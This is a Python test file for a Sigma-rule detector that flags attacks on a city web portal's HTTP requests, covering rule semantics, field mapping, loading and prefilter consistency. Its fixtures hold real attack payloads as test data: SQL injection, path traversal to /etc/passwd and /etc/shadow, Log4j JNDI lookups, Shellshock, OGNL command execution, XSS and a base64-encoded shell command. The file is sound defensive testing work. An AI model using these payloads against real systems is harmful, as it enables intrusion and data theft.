"""Sigma rules on portal requests: rule semantics, field mapping, loading, prefilter, end to end."""

from __future__ import annotations

import base64
import gc
import textwrap
import time
import uuid
from importlib.resources import files
from pathlib import Path
from urllib.parse import urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from citywatch.detect import DetectorRunner
from citywatch.detect.portal.sigma import SigmaRules, SigmaRulesConfig, _Prefilter, shipped_rules
from citywatch.detect.portal.sigma_fields import RequestView, field_key, line_parts
from citywatch.detect.portal.sigma_load import attack_meta
from citywatch.detect.portal.sigma_match import required_literal
from citywatch.enrich import Enricher
from citywatch.errors import ConfigError
from citywatch.model import Detection, Event, HttpRequest

SAMPLES = Path(__file__).parent / "sigma_samples"
T0 = 1_773_475_200.0


def rule_yaml(
    detection: str,
    *,
    title: str = "Test rule",
    category: str = "webserver",
    level: str = "high",
    tags: tuple[str, ...] = ("attack.initial-access", "attack.t1190"),
    rule_id: str | None = None,
    status: str = "test",
) -> str:
    """A complete Sigma rule around a ``detection:`` block (indented by the caller or not)."""
    tag_lines = "".join(f"    - {t}\n" for t in tags)
    return (
        f"title: {title}\n"
        f"id: {rule_id or uuid.uuid4()}\n"
        f"status: {status}\n"
        f"tags:\n{tag_lines}"
        f"logsource:\n    category: {category}\n"
        "detection:\n" + textwrap.indent(textwrap.dedent(detection).strip("\n"), "    ") + "\n"
        f"level: {level}\n"
    )


def detector(tmp_path: Path, *rules: str, **config: object) -> SigmaRules:
    """A detector over the given rule texts, one file each."""
    folder = tmp_path / "rules"
    folder.mkdir(parents=True, exist_ok=True)
    for i, text in enumerate(rules):
        (folder / f"rule_{i:02d}.yml").write_text(text, encoding="utf-8")
    return SigmaRules(
        SigmaRulesConfig.model_validate({"rule_dirs": [folder], "shipped": False, **config})
    )


def req(
    uri: str = "/",
    method: str = "GET",
    *,
    ip: str | None = "203.0.113.9",
    headers: tuple[tuple[str, str], ...] = (),
    body: str = "",
    status: int | None = None,
    user_agent: str | None = None,
    referrer: str | None = None,
    dataset: str = "portal.http",
    t: float = 0.0,
    rid: str = "r-1",
) -> Event:
    """A request event; ``User-Agent``/``Referer`` headers also fill the payload fields."""
    for name, value in headers:
        if name.lower() == "user-agent" and user_agent is None:
            user_agent = value
        if name.lower() == "referer" and referrer is None:
            referrer = value
    return Event(
        id=rid,
        timestamp=T0 + t,
        dataset=dataset,
        source_ip=ip,
        payload=HttpRequest(
            method=method,
            uri=uri,
            version="HTTP/1.1",
            headers=headers,
            body=body,
            status=status,
            user_agent=user_agent,
            referrer=referrer,
        ),
    )


def titles(det: SigmaRules, event: Event) -> list[str]:
    return [h.rule_name for h in det.inspect(event)]


def brute_force(det: SigmaRules, event: Event) -> list[str]:
    """Every rule evaluated without the prefilter: what the prefilter must never change."""
    assert isinstance(event.payload, HttpRequest)
    view = RequestView(event, event.payload)
    return [r.info.title for r in det.rules if r.predicate(view, [])]


# --- rule semantics -----------------------------------------------------------------------------

SEMANTICS = rule_yaml(
    """
    sel_contains:
        cs-uri-query|contains: 'needle'
    sel_start:
        cs-uri-stem|startswith: '/start'
    sel_end:
        cs-uri-stem|endswith: '.end'
    sel_exact:
        cs-uri-stem: '/exact'
    sel_all:
        cs-uri-query|contains|all:
            - 'alpha'
            - 'beta'
    sel_cased:
        cs-uri-query|contains|cased: 'CaseD'
    sel_glob:
        cs-uri-stem: '/g/*/x?z'
    condition: 1 of sel_*
    """,
    title="semantics",
)


@pytest.mark.parametrize(
    ("uri", "fires"),
    [
        ("/q?x=NEEDLE", True),  # case-insensitive by default
        ("/q?x=needl", False),
        ("/needle", False),  # contains on the query, not the path
        ("/START/here", True),
        ("/x/start", False),  # startswith is anchored
        ("/file.END", True),
        ("/file.end/more", False),
        ("/EXACT", True),
        ("/exact/", False),
        ("/q?beta=1&alpha=2", True),  # |all: every value, any order
        ("/q?alpha=2", False),
        ("/q?x=CaseD", True),
        ("/q?x=cased", False),  # |cased is case-sensitive
        ("/g/a/b/xyz", True),  # * spans slashes, ? is one character
        ("/g/a/xz", False),
        ("/g//xYz", True),
    ],
)
def test_string_modifiers(tmp_path: Path, uri: str, fires: bool) -> None:
    det = detector(tmp_path, SEMANTICS)
    assert bool(det.inspect(req(uri))) is fires


def test_lists_are_or_maps_are_and(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml(
            """
            selection:
                cs-method:
                    - 'PUT'
                    - 'DELETE'
                cs-uri-stem|startswith: '/api/'
            condition: selection
            """
        ),
    )
    assert det.inspect(req("/api/x", "PUT"))
    assert det.inspect(req("/api/x", "delete"))
    assert not det.inspect(req("/api/x", "GET"))  # the method is not in the list
    assert not det.inspect(req("/web/x", "PUT"))  # the map needs both


def test_list_of_maps_is_or(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml(
            """
            selection:
                - cs-method: 'PUT'
                  cs-uri-stem: '/a'
                - cs-method: 'GET'
                  cs-uri-stem: '/b'
            condition: selection
            """
        ),
    )
    assert det.inspect(req("/a", "PUT")) and det.inspect(req("/b", "GET"))
    assert not det.inspect(req("/a", "GET")) and not det.inspect(req("/b", "PUT"))


CONDITIONS = """
    sel_a:
        cs-uri-query|contains: 'aaa'
    sel_b:
        cs-uri-query|contains: 'bbb'
    filter_c:
        cs-uri-query|contains: 'ccc'
    condition: {condition}
"""


@pytest.mark.parametrize(
    ("condition", "query", "fires"),
    [
        ("1 of sel_*", "aaa", True),
        ("1 of sel_*", "ccc", False),
        ("all of sel_*", "aaa", False),
        ("all of sel_*", "bbbaaa", True),
        ("all of them", "aaabbb", False),  # them includes filter_c
        ("all of them", "aaabbbccc", True),
        ("any of them", "ccc", True),
        ("1 of sel_* and not filter_c", "aaaccc", False),
        ("1 of sel_* and not filter_c", "bbb", True),
        ("sel_a and (sel_b or filter_c)", "aaaccc", True),
        ("sel_a and (sel_b or filter_c)", "aaa", False),
        ("not sel_a", "zzz", True),
        ("not sel_a", "aaa", False),
        ("(sel_a or sel_b) and not (filter_c and sel_b)", "bbbccc", False),
    ],
)
def test_conditions(tmp_path: Path, condition: str, query: str, fires: bool) -> None:
    det = detector(tmp_path, rule_yaml(CONDITIONS.format(condition=condition)))
    assert bool(det.inspect(req(f"/q?{query}"))) is fires


def test_condition_list_is_or(tmp_path: Path) -> None:
    text = rule_yaml(CONDITIONS.format(condition="x")).replace(
        "condition: x", "condition:\n        - sel_a\n        - sel_b"
    )
    det = detector(tmp_path, text)
    assert det.inspect(req("/q?aaa")) and det.inspect(req("/q?bbb"))
    assert not det.inspect(req("/q?ccc"))


def test_keywords_search_the_whole_request(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml(
            """
            keywords:
                - 'evil-token'
                - ' 418 '
            condition: keywords
            """
        ),
    )
    assert det.inspect(req("/a?x=EVIL-TOKEN"))
    assert det.inspect(req("/", user_agent="x evil-token"))
    assert det.inspect(req("/", headers=(("X-Custom", "evil-token"),)))
    assert det.inspect(req("/", "POST", body="a=evil-token"))
    assert det.inspect(req("/teapot", status=418))  # the status as the log line writes it
    assert not det.inspect(req("/teapot", status=200))
    hit = det.inspect(req("/", "POST", body="a=evil-token"))[0]
    assert hit.location == "line" and "evil-token" in hit.snippet


def test_keyword_and_field_with_null_and_exists(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml(
            """
            sel_no_referrer:
                cs-referrer: null
            sel_cookie:
                cs-cookie|exists: true
            sel_no_ua:
                c-useragent|exists: false
            condition: sel_no_referrer and sel_cookie and sel_no_ua
            """
        ),
    )
    assert det.inspect(req(headers=(("Cookie", "s=1"),)))
    assert not det.inspect(req(headers=(("Cookie", "s=1"), ("Referer", "https://x/"))))
    assert not det.inspect(req(headers=(("Cookie", "s=1"), ("User-Agent", "curl/8"))))
    assert not det.inspect(req())  # no cookie header


def test_regex_is_case_sensitive_unless_i_and_linear(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml(
            """
            sel_cs:
                c-useragent|re: '^Tool/[0-9]+$'
            condition: sel_cs
            """,
            title="cs",
        ),
        rule_yaml(
            """
            sel_i:
                c-useragent|re|i: '^tool/[0-9]+$'
            condition: sel_i
            """,
            title="ci",
        ),
        rule_yaml(
            """
            sel_evil:
                cs-uri-query|re: '(a+)+$'
            condition: sel_evil
            """,
            title="evil",
        ),
    )
    assert titles(det, req(user_agent="Tool/12")) == ["cs", "ci"]
    assert titles(det, req(user_agent="TOOL/12")) == ["ci"]
    assert titles(det, req(user_agent="Tool/12x")) == []
    gc.disable()  # CPU time of the match alone: a full collection of the test process is not it
    try:
        start = time.process_time()  # RE2: no catastrophic backtracking on a long near-match
        assert titles(det, req("/q?" + "a" * 20_000 + "!")) == []
        assert time.process_time() - start < 1.0
    finally:
        gc.enable()


def test_base64offset_cidr_numbers(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml(
            """
            sel_b64:
                cs-uri-query|base64offset|contains: '/bin/sh'
            condition: sel_b64
            """,
            title="b64",
        ),
        rule_yaml(
            """
            sel_net:
                c-ip|cidr:
                    - '198.51.100.0/24'
                    - '2001:db8::/32'
            condition: sel_net
            """,
            title="net",
        ),
        rule_yaml(
            """
            sel_status:
                sc-status: 404
                cs-uri-stem: '/missing'
            sel_big:
                sc-status|gte: 500
            condition: 1 of sel_*
            """,
            title="status",
        ),
    )
    for prefix in ("", "x", "xy"):  # every alignment of the encoded text
        payload = base64.b64encode(f"{prefix}/bin/sh -c id".encode()).decode()
        assert titles(det, req(f"/q?c={payload}", ip=None)) == ["b64"]
    assert titles(det, req("/", ip="198.51.100.77")) == ["net"]
    assert titles(det, req("/", ip="2001:db8::1")) == ["net"]
    assert titles(det, req("/", ip="198.51.101.1")) == []
    assert titles(det, req("/missing", ip=None, status=404)) == ["status"]
    assert titles(det, req("/missing", ip=None, status=403)) == []
    assert titles(det, req("/x", ip=None, status=503)) == ["status"]
    assert titles(det, req("/x", ip=None)) == []  # unknown status: no comparison holds


# --- field mapping ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "key"),
    [
        ("cs-method", "method"),
        ("http.request.method", "method"),
        ("cs-uri-query", "query"),
        ("url.query", "query"),
        ("cs-uri-stem", "path"),
        ("cs-uri", "uri"),
        ("c-uri", "uri"),
        ("url.original", "uri"),
        ("sc-status", "status"),
        ("http.response.status_code", "status"),
        ("c-useragent", "user_agent"),
        ("cs-user-agent", "user_agent"),
        ("cs(User-Agent)", "user_agent"),
        ("user_agent.original", "user_agent"),
        ("cs-referrer", "referrer"),
        ("cs-referer", "referrer"),
        ("c-ip", "source_ip"),
        ("src_ip", "source_ip"),
        ("source.ip", "source_ip"),
        ("cs-host", "host"),
        ("cs-Host", "host"),
        ("cs-cookie", "cookie"),
        ("cs-bytes", "bytes_in"),
        ("c-uri-extension", "extension"),
        ("cs(X-Api-Version)", "header:x-api-version"),
        ("http.request.headers.x-forwarded-for", "header:x-forwarded-for"),
        ("Image", None),
        ("CommandLine", None),
    ],
)
def test_field_names(name: str, key: str | None) -> None:
    assert field_key(name) == key


def test_field_values_of_a_request() -> None:
    event = req(
        "/docs/report.PDF?year=2025&q=a#frag",
        "POST",
        headers=(
            ("Host", "portal.example"),
            ("Cookie", "sid=1"),
            ("X-Api-Version", "3"),
            ("User-Agent", "UA/1"),
        ),
        body="a=é",
        status=201,
    )
    assert isinstance(event.payload, HttpRequest)
    view = RequestView(event, event.payload)
    got = {
        k: view.original(k)
        for k in (
            "method",
            "uri",
            "path",
            "query",
            "extension",
            "status",
            "bytes_in",
            "host",
            "cookie",
            "header:x-api-version",
            "user_agent",
            "referrer",
            "body",
        )
    }
    assert got == {
        "method": "POST",
        "uri": "/docs/report.PDF?year=2025&q=a#frag",
        "path": "/docs/report.PDF",
        "query": "year=2025&q=a",
        "extension": "PDF",
        "status": "201",
        "bytes_in": "4",  # UTF-8 bytes of the body
        "host": "portal.example",
        "cookie": "sid=1",
        "header:x-api-version": "3",
        "user_agent": "UA/1",
        "referrer": None,
        "body": "a=é",
    }
    assert view.original("headers") == (
        "Host: portal.example\nCookie: sid=1\nX-Api-Version: 3\nUser-Agent: UA/1"
    )
    bare = req("/plain", dataset="portal.access", user_agent="UA/2", referrer="https://r/")
    assert isinstance(bare.payload, HttpRequest)
    bare_view = RequestView(bare, bare.payload)
    assert bare_view.original("query") is None and bare_view.original("extension") is None
    assert bare_view.original("headers") == "User-Agent: UA/2\nReferer: https://r/"
    assert bare_view.original("line") == (
        '203.0.113.9 - - "GET /plain HTTP/1.1" - - "https://r/" "UA/2"'
    )


def test_w3c_and_ecs_names_match_the_same_request(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml(
            """
            selection:
                cs-method: 'POST'
                http.request.method: 'post'
                cs-uri-query|contains: 'id=7'
                url.query|contains: 'id=7'
                cs-host: 'portal.example'
                cs(X-Api-Version): '3'
                c-useragent|startswith: 'curl/'
                user_agent.original|startswith: 'curl/'
                http.request.body.content|contains: 'note=hi'
            condition: selection
            """
        ),
    )
    headers = (("Host", "portal.example"), ("X-Api-Version", "3"), ("User-Agent", "curl/8.5"))
    assert det.inspect(req("/a?id=7", "POST", headers=headers, body="note=hi"))
    assert not det.inspect(req("/a?id=7", "POST", headers=headers[:2], body="note=hi"))


# --- loading ------------------------------------------------------------------------------------


def test_samples_load_and_unsupported_rules_are_skipped_with_reasons() -> None:
    det = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES], shipped=False))
    report = det.load_report()
    assert report.errors == []
    assert len(report.loaded) == 15
    reasons = {s.title: s.reason for s in report.skipped}
    assert reasons == {
        "Whoami Utility Execution": "logsource category 'process_creation' is not included",
        "Webshell Written By The Web Server Process": (
            "field 'TargetFilename' is not mapped to portal requests"
        ),
    }
    only_proxy = SigmaRules(
        SigmaRulesConfig(rule_dirs=[SAMPLES], shipped=False, include_categories=["proxy"])
    )
    assert {r.title for r in only_proxy.load_report().loaded} == {
        "Hack Tool User Agent",
        "Executable Download From Suspicious TLD",
        "Cobalt Strike Default Beacon Request",
    }


def test_other_unsupported_rules_are_skipped(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml("sel:\n    cs-uri|fieldref: cs-referrer\ncondition: sel", title="fieldref"),
        rule_yaml("sel:\n    cs-uri: '/a'\ncondition: sel", title="old", status="deprecated"),
        rule_yaml("sel:\n    cs-uri|expand: '%x%'\ncondition: sel", title="expand"),
        rule_yaml("sel:\n    cs-uri: '/ok'\ncondition: sel", title="ok"),
    )
    report = det.load_report()
    assert [r.title for r in report.loaded] == ["ok"]
    reasons = {s.title: s.reason for s in report.skipped}
    assert "SigmaFieldReference" in reasons["fieldref"]
    assert reasons["old"] == "status is deprecated"
    assert "placeholder" in reasons["expand"]


def test_correlation_rules_are_skipped_and_their_base_rule_runs(tmp_path: Path) -> None:
    base = rule_yaml(
        "sel:\n    cs-uri-stem: '/login'\n    sc-status: 401\ncondition: sel",
        title="Failed login",
    ).replace("status: test", "name: failed_login\nstatus: test")
    correlation = textwrap.dedent(
        """\
        title: Many failed logins
        id: 0a2e1b52-5d2e-4b8a-9a0e-2c1d9c7f4e02
        correlation:
            type: event_count
            rules:
                - failed_login
            group-by:
                - c-ip
            timespan: 5m
            condition:
                gte: 10
        level: high
        """
    )
    # in one file, and each in a file of its own (as SigmaHQ keeps them)
    for texts in ([base + "---\n" + correlation], [base, correlation]):
        det = detector(tmp_path / str(len(texts)), *texts)
        report = det.load_report()
        assert report.errors == []
        assert [r.title for r in report.loaded] == ["Failed login"]
        assert [(s.title, s.reason) for s in report.skipped] == [
            ("Many failed logins", "correlation rules are not evaluated per request")
        ]
        assert titles(det, req("/login", "POST", status=401)) == ["Failed login"]
        assert titles(det, req("/login", "POST", status=302)) == []


BROKEN = {
    "bad_yaml.yml": "title: x\ndetection: [unclosed\n",
    "bad_modifier.yml": rule_yaml(
        "sel:\n    cs-uri|containz: 'x'\ncondition: sel",
        rule_id="11111111-1111-4111-8111-111111111111",
    ),
    "bad_condition.yml": rule_yaml(
        "sel:\n    cs-uri: 'x'\ncondition: sel and missing",
        rule_id="22222222-2222-4222-8222-222222222222",
    ),
    "dup.yml": rule_yaml(
        "sel:\n    cs-uri: '/dup'\ncondition: sel", rule_id="33333333-3333-4333-8333-333333333333"
    ),
    "dup_again.yml": rule_yaml(
        "sel:\n    cs-uri: '/dup2'\ncondition: sel", rule_id="33333333-3333-4333-8333-333333333333"
    ),
    "good.yml": rule_yaml("sel:\n    cs-uri-query|contains: 'good-one'\ncondition: sel"),
}


def test_bad_rules_are_reported_and_the_good_ones_run(tmp_path: Path) -> None:
    for name, text in BROKEN.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    det = SigmaRules(SigmaRulesConfig(rule_dirs=[tmp_path], shipped=False))
    report = det.load_report()
    errors = {(Path(e.file).name, e.id): e.message for e in report.errors}
    assert set(errors) == {
        ("bad_yaml.yml", None),
        ("bad_modifier.yml", "11111111-1111-4111-8111-111111111111"),
        ("bad_condition.yml", "22222222-2222-4222-8222-222222222222"),
        ("dup_again.yml", "33333333-3333-4333-8333-333333333333"),
    }
    assert "containz" in errors[("bad_modifier.yml", "11111111-1111-4111-8111-111111111111")]
    assert "missing" in errors[("bad_condition.yml", "22222222-2222-4222-8222-222222222222")]
    assert "duplicate" in errors[("dup_again.yml", "33333333-3333-4333-8333-333333333333")]
    assert len(report.loaded) == 2
    assert titles(det, req("/q?good-one")) == ["Test rule"]


def test_strict_loading_raises_a_located_error(tmp_path: Path) -> None:
    (tmp_path / "bad_modifier.yml").write_text(BROKEN["bad_modifier.yml"], encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        SigmaRules(SigmaRulesConfig(rule_dirs=[tmp_path], shipped=False, strict=True))
    assert "bad_modifier.yml" in str(info.value)
    assert "11111111-1111-4111-8111-111111111111" in str(info.value)
    assert info.value.where is not None and "bad_modifier.yml" in info.value.where


def test_missing_rule_dir_fails_fast(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no such rule file"):
        SigmaRules(SigmaRulesConfig(rule_dirs=[tmp_path / "nope"]))
    with pytest.raises(ValidationError):
        SigmaRulesConfig(rule_dir=[tmp_path])  # type: ignore[call-arg]


def test_hit_metadata_from_level_and_tags(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml(
            "sel:\n    cs-uri-query|contains: 'zz1'\ncondition: sel",
            level="critical",
            tags=("attack.persistence", "attack.t1505.003"),
            rule_id="44444444-4444-4444-8444-444444444444",
            title="Web shell",
        ),
        rule_yaml(
            "sel:\n    cs-uri-query|contains: 'zz2'\ncondition: sel",
            level="informational",
            tags=("attack.discovery",),
            title="Info",
        ),
    )
    (shell,) = det.inspect(req("/q?a=zz1"))
    assert (shell.rule_id, shell.rule_name, shell.attack_class) == (
        "44444444-4444-4444-8444-444444444444",
        "Web shell",
        "webshell",
    )
    assert (shell.technique, shell.severity, shell.location, shell.snippet) == (
        "T1505.003",
        90,
        "query",
        "a=zz1",
    )
    (info,) = det.inspect(req("/q?a=zz2"))
    assert (info.attack_class, info.technique, info.severity) == (
        "sigma:informational",
        "T1190",
        10,
    )


def test_attack_meta_mapping() -> None:
    assert attack_meta(["attack.t1595.002"], "low") == ("scan", "T1595.002")
    assert attack_meta(["attack.T1059.004"], "high") == ("cmdi", "T1059.004")
    assert attack_meta(["cve.2021-44228"], "high") == ("exploit", "T1190")
    assert attack_meta(["citywatch.class.sqli", "attack.t1505.003"], "high") == (
        "sqli",
        "T1505.003",
    )


@pytest.mark.parametrize(
    ("pattern", "literal"),
    [
        (r"^/api/(v1|v2)/users\?id=\d+", "/users?id="),
        (r"X-BEResource=[^;]*~[0-9]+", "X-BEResource="),
        (r"abc?de", "ab"),  # "ab" and "de" are both required; the first longest wins
        (r"abcx*", "abc"),
        (r"xab{2,}cd", "xab"),
        (r"a|b", None),
        (r"[abc]+", None),
        (r"(?x) a b c", None),
        (r"\Qa.b\E", None),
    ],
)
def test_required_literal(pattern: str, literal: str | None) -> None:
    assert required_literal(pattern) == literal


# --- the shipped portal rules -------------------------------------------------------------------


def test_shipped_rules_are_package_data_and_all_load() -> None:
    folder = files("citywatch.detect.portal") / "rules"
    names = [p.name for p in folder.iterdir() if p.name.endswith(".yml")]
    assert len(names) >= 8
    assert Path(str(folder)) == shipped_rules()
    report = SigmaRules().load_report()
    assert report.errors == [] and report.skipped == []
    assert len(report.loaded) == len(names)
    assert all(r.prefiltered for r in report.loaded)


JNDI = "${jndi:ldap://203.0.113.5:1389/a}"
UA = "header:User-Agent"


def test_rule_dirs_add_to_the_shipped_rules_unless_they_are_turned_off(tmp_path: Path) -> None:
    # a city adding SigmaHQ's web rules keeps citywatch's own portal rules
    shipped = {r.id for r in SigmaRules(SigmaRulesConfig()).load_report().loaded}
    theirs = {r.id for r in SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES])).load_report().loaded}
    only = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES], shipped=False)).load_report().loaded
    assert shipped and shipped < theirs
    assert {r.id for r in only} == theirs - shipped
    for named in (shipped_rules(), shipped_rules() / "portal_jndi_any_header.yml"):
        again = SigmaRules(SigmaRulesConfig(rule_dirs=[named], strict=True)).load_report()
        assert again.errors == [] and {r.id for r in again.loaded} == shipped, "named twice, once"


@pytest.mark.parametrize(
    ("event", "cls", "location"),
    [
        (req("/traffic/incidents?district=3%20UNION%20ALL%20SELECT%20NULL--%20-"), "sqli", "query"),
        (req("/traffic/incidents?district=3%20AND%205861%3D5861&page=1"), "sqli", "query"),
        (req("/traffic/incidents?district=3%20AND%20SLEEP%285%29"), "sqli", "query"),
        (req("/tax/file", "POST", body="amount=1250.00+UNION+ALL+SELECT+NULL--+-"), "sqli", "body"),
        (req("/tax/file", "POST", body="amount=1250.00+AND+1%3D1&year=2025"), "sqli", "body"),
        (req("/documents/..%2f..%2f..%2fetc%2fpasswd"), "traversal", "uri"),
        (req("/api/v1/documents?file=../../../../etc/shadow"), "traversal", "uri"),
        (req("/", headers=(("X-Api-Version", JNDI),)), "jndi", "header:X-Api-Version"),
        (req("/", dataset="portal.access", user_agent=JNDI), "jndi", UA),
        (req("/actuator/heapdump"), "scan", "path"),
        (req("/wp-login.php"), "scan", "path"),
        (req("/.git/config"), "scan", "path"),
        (req("/backup.sql"), "scan", "path"),
        (req("/tax/file", "POST", body="note=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), "xss", "body"),
        (req("/", user_agent="sqlmap/1.8.11#stable (https://sqlmap.org)"), "scan", UA),
        (req("/", user_agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"), "scan", UA),
        (req("/api/internal/metrics", ip="198.51.100.20"), "access-control", "path"),
        (req("/", "PROPFIND"), "scan", "method"),
        (req("/", "TRACE"), "scan", "method"),
        (req("/cgi-bin/status", user_agent='() { :; }; echo; /bin/bash -c "id"'), "cmdi", UA),
    ],
)  # fmt: skip
def test_shipped_rules_catch_their_attacks(event: Event, cls: str, location: str) -> None:
    hits = SigmaRules().inspect(event)
    assert (cls, location) in {(h.attack_class, h.location) for h in hits}


BENIGN = [
    req("/traffic/incidents?district=3&page=2"),
    req("/traffic/incidents?q=O%27Brien+Street&district=4"),
    req("/traffic/incidents?q=select+a+district&page=1"),
    req("/traffic/incidents?q=drop-off+point+or+bus+stop"),
    req("/traffic/incidents?q=1%3D1+is+obvious"),
    req("/traffic/incidents?q=%C3%95un+and+the+bridge"),
    req(
        "/tax/file",
        "POST",
        body="year=2025&amount=1250.00&note=I+%3C3+this+city&full_name=O%27Brien",
    ),
    req("/tax/file", "POST", body="note=rock+and+roll+or+jazz+in+order+by+date&amount=99.50"),
    req("/tax/file", "POST", body="note=" + "legal+text+" * 800),
    req(
        "/api/v1/tax/returns",
        "POST",
        headers=(("Content-Type", "application/json"), ("User-Agent", "AldmereCity/4.0.2")),
        body='{"year": 2025, "amount": "1250.00", "note": "select a district; drop-off point"}',
    ),
    req("/documents/2023/budget-summary.pdf"),
    req("/documents/7d1c/download", referrer="https://portal.example/documents"),
    req("/portal/login.aspx"),
    req("/eUprava/index.jsp"),
    req("/admin", status=302),
    req("/.well-known/security.txt"),
    req("/api/internal/metrics", ip="10.20.0.5"),
    req("/api/internal/metrics", ip=None),
    req("/", "OPTIONS"),
    req("/", "HEAD"),
    req("/alerts/feed.atom", headers=(("User-Agent", "Feedly/1.0"), ("If-None-Match", '"abc"'))),
    req(
        "/account",
        headers=(
            ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"),
            ("Cookie", "aldsid=DF7JHWbDWLsDeC-fExQwbA; theme=dark"),
            ("Accept-Language", "hr-HR,hr;q=0.9,en;q=0.8"),
        ),
    ),
]


def test_shipped_rules_ignore_benign_look_alikes() -> None:
    det = SigmaRules()
    assert [(i, titles(det, e)) for i, e in enumerate(BENIGN) if titles(det, e)] == []


# --- the prefilter never changes a result -------------------------------------------------------

SQLI, WEBSHELL, JNDI_HEADER, LOG4J = (
    "SQL Injection Strings In URI",
    "Webshell Detection With Command Line Keywords",
    "JNDI Lookup In Any Request Header",
    "Log4j RCE CVE-2021-44228 Generic",
)
ATTACKS = [
    (req("/q?id=1%20UNION%20SELECT%20password", status=200), [SQLI]),
    (req("/q?id=1 UNION SELECT password", status=404), []),  # the rule's 404 filter
    (req("/q?x=whoami&c=%3Dwhoami", status=200), [WEBSHELL]),
    (req("/shell.php?cmd=whoami", "POST", status=200), []),  # the rule wants GET
    (
        req("/q?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
        ["Spring4Shell Exploitation Attempt"],
    ),
    (
        req("/tmui/login.jsp?x=/tmui/..;/hsqldb", status=200),
        ["CVE-2020-5902 F5 BIG-IP Exploitation Attempt"],
    ),
    (
        req("/ecp/x.js", headers=(("Cookie", "X-BEResource=a]@b:444/ecp/target.js~1942062522"),)),
        ["Exchange ProxyLogon SSRF Cookie"],
    ),
    (
        req("/a.exe", headers=(("Host", "files.evil.top"),)),
        ["Executable Download From Suspicious TLD"],
    ),
    (req("/a.exe", headers=(("Host", "files.example"),)), []),
    (
        req("/abcd", user_agent="Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1)"),
        ["Cobalt Strike Default Beacon Request"],
    ),
    (req("/admin/panel", status=500), ["Server Error On Admin Enumeration"]),
    (req("/", user_agent="Mozilla/5.0 ${jndi:ldap://x/a}", status=404), [JNDI_HEADER]),
    (req("/", user_agent="Mozilla/5.0 ${jndi:ldap://x/a}", status=200), [JNDI_HEADER, LOG4J]),
    (
        req("/", headers=(("X-Forwarded-For", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),)),
        [JNDI_HEADER, LOG4J],
    ),
    (req("/?p=${(#a=@java.lang.Runtime@getRuntime().exec('id'))}"), ["Java Payload Strings"]),
]


def test_prefilter_agrees_with_evaluating_every_rule() -> None:
    det = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES]))
    for event, expected in ATTACKS:
        assert titles(det, event) == brute_force(det, event) == expected
    for event in BENIGN:
        assert titles(det, event) == brute_force(det, event)


def test_prefilter_remembers_each_part_on_its_own(tmp_path: Path) -> None:
    det = detector(
        tmp_path,
        rule_yaml("sel:\n    cs-uri-query|contains: 'needle'\ncondition: sel", title="uri"),
        rule_yaml("sel:\n    c-useragent|contains: 'needle'\ncondition: sel", title="agent"),
        rule_yaml("keywords:\n    - 'hay http/1.1'\ncondition: keywords", title="across"),
    )
    seen = []
    for uri in ("/a?q=needle", "/a?q=hay", "/a?q=needle"):
        for agent in ("needle/1.0", "curl/8", None, "/a?q=needle"):  # the URI part as agent
            event = req(uri, user_agent=agent, dataset="portal.access")
            assert titles(det, event) == brute_force(det, event)
            seen.append(tuple(titles(det, event)))
    assert seen[:4] == [("uri", "agent"), ("uri",), ("uri",), ("uri", "agent")]
    assert seen[4:8] == [("agent", "across"), ("across",), ("across",), ("agent", "across")]
    assert seen[8:] == seen[:4], "a remembered URI selects what it selected the first time"


_PIECES = st.sampled_from(
    [
        "union select",
        "UNION%20SELECT",
        "${jndi:",
        "../",
        "..%2f",
        "/documents",
        "/traffic/incidents",
        "?",
        "&",
        "=",
        "%27",
        "sqlmap",
        "whoami",
        "() {",
        "/.git/",
        ".sql",
        "/ecp/",
        "X-BEResource=",
        "~12",
        "İ",
        "ß",
        " 404 ",
        "Õun",
    ]
)
_TEXT = st.lists(st.one_of(_PIECES, st.text(max_size=6)), max_size=8).map("".join)
_RULES = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES]))


@settings(max_examples=300, deadline=None)
@given(
    path=_TEXT,
    query=_TEXT,
    agent=st.one_of(st.none(), _TEXT),
    header=_TEXT,
    body=_TEXT,
    method=st.sampled_from(["GET", "POST", "PROPFIND", "get"]),
    status=st.sampled_from([None, 200, 404, 500]),
    full=st.booleans(),
)
def test_prefilter_agrees_on_arbitrary_requests(
    path: str,
    query: str,
    agent: str | None,
    header: str,
    body: str,
    method: str,
    status: int | None,
    full: bool,
) -> None:
    headers = (("Cookie", header), ("User-Agent", agent or "")) if full else ()
    event = req(
        f"/{path}?{query}",
        method,
        headers=headers,
        body=body if full else "",
        status=status,
        user_agent=agent,
        dataset="portal.http" if full else "portal.access",
    )
    assert titles(_RULES, event) == brute_force(_RULES, event)


class _PartByPart(_Prefilter):
    """The prefilter without its one search over a full request: each part on its own."""

    def _clean(self, request: HttpRequest) -> bool:
        return False


_FIELDS = SigmaRules(  # no keywords: the one search applies
    SigmaRulesConfig(
        rule_dirs=[f for f in sorted(SAMPLES.glob("*.yml")) if "keywords:" not in f.read_text()]
    )
)
_HEADER = st.tuples(st.sampled_from(["Cookie", "User-Agent", "Referer", "X-A", "ß"]), _TEXT)


